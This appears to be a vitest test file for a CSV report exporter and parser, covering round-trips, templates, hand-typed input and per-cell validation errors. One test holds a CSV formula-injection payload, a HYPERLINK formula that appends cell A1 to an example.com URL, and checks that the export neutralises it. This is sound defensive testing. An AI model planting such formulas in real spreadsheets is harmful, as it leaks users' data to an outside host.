import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeReportCsv } from './csv.ts';
import { parseReportFile } from './parse.ts';
import { context, productLines, sampleContent } from './sample-report.fixture.ts';

const input = {
  distributorName: 'Saigon Parts Co.',
  period: '2026-03',
  currency: 'EUR',
  productLines,
};
const header =
  'section,period,product_line,product_line_name,account,competitor,product,stage,units,amount,currency,expected_close,complaints,returns,score,text,tags';

/** One CSV line with the given cells, every other column empty. */
function line(cells: Record<string, string>): string {
  return header
    .split(',')
    .map((column) => cells[column] ?? '')
    .join(',');
}

async function parseCsv(text: string) {
  return parseReportFile(Buffer.from(text, 'utf8'), 'report.csv', context);
}
const located = (result: Awaited<ReturnType<typeof parseCsv>>) =>
  result.ok ? [] : result.errors.map((e) => `${e.column}${e.row} ${e.code}`);

describe('monthly report CSV', () => {
  it('reads back an exported report unchanged', async () => {
    const csv = writeReportCsv({ ...input, content: sampleContent });
    expect(await parseCsv(csv)).toEqual({ ok: true, content: sampleContent });
  });

  it('writes a template with every product line and neutralises formula-like text', () => {
    const template = writeReportCsv(input);
    expect(template.startsWith(`\ufeff${header}\n`)).toBe(true);
    const rows = parse(template, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((row) => [row.section, row.product_line])).toEqual([
      ['report', ''],
      ['sales', 'BRK-PAD'],
      ['sales', 'OIL-FLT'],
      ['sales', 'WIP-BLD'],
      ['inventory', 'BRK-PAD'],
      ['inventory', 'OIL-FLT'],
      ['inventory', 'WIP-BLD'],
      ['customer_satisfaction', ''],
    ]);
    const exported = writeReportCsv({ ...input, content: sampleContent });
    expect(exported).toContain(`"'=HYPERLINK(""http://example.com/?""&A1,""click"")"`);
    expect(exported).toContain("'-15% promotion");
  });

  it('reads a file typed by hand, in any column order', async () => {
    const text = [
      'section,currency,period,product_line,units,amount,account,stage,expected_close,complaints,returns,score,text,tags,competitor,product,product_line_name',
      'report,EUR,2026-03,,,,,,,,,,,,,,',
      'sales,,,brk-pad,5,10.5,,,,,,,,,,,',
      ',,,,,,,,,,,,,,,,',
      'pipeline,,,OIL-FLT,,200,Acme,lead,2026-06-30,,,,,,,,',
      'customer_satisfaction,,,,,,,,,2,0,,,,,,',
    ].join('\r\n');
    const result = await parseCsv(text);
    expect(result.ok && result.content).toMatchObject({
      sales: [{ productLine: 'BRK-PAD', units: 5, revenue: 10.5 }],
      pipeline: [{ account: 'Acme', productLine: 'OIL-FLT', stage: 'lead', value: 200 }],
      customerSatisfaction: { complaints: 2, returns: 0, score: null },
    });
  });

  it('reports every error with the row and the column name', async () => {
    const text = [
      header,
      line({ section: 'report', period: '2027-01', currency: 'USD' }),
      line({ section: 'sales', product_line: 'BRK-PAD', units: '-1', amount: '=SUM(1;2)' }),
      line({ section: 'sales', product_line: 'BRK-PAD', units: '1', amount: '1' }),
      line({ section: 'forecast' }),
      line({ section: 'inventory', product_line: 'OIL-FLT', account: 'Acme', units: '3' }),
      line({ section: 'customer_satisfaction', complaints: '1', returns: '1', score: '10.5' }),
      line({ section: 'customer_satisfaction', complaints: '1', returns: '1', score: '5' }),
    ].join('\n');
    expect(located(await parseCsv(text))).toEqual([
      'section5 section_unknown',
      'account6 not_applicable',
      'period2 period_future',
      'currency2 currency_mismatch',
      'units3 negative',
      'amount3 formula',
      'product_line4 duplicate_row',
      'score7 out_of_range',
      'complaints8 duplicate_row',
    ]);
  });

  it('names the missing report row, customer satisfaction and header columns', async () => {
    expect(
      located(
        await parseCsv(
          `${header}\n${line({ section: 'sales', product_line: 'BRK-PAD', units: '1', amount: '1' })}\n`,
        ),
      ),
    ).toEqual([
      'period0 period_missing',
      'currency0 required',
      'complaints0 required',
      'returns0 required',
    ]);
    expect(located(await parseCsv('section,period,units\nreport,2026-03,\n'))).toContain(
      'product_line1 header_mismatch',
    );
  });

  it('refuses a file that is not CSV text', async () => {
    expect(located(await parseCsv('section,"unclosed\nreport'))).toEqual(['2 file_unreadable']);
  });
});
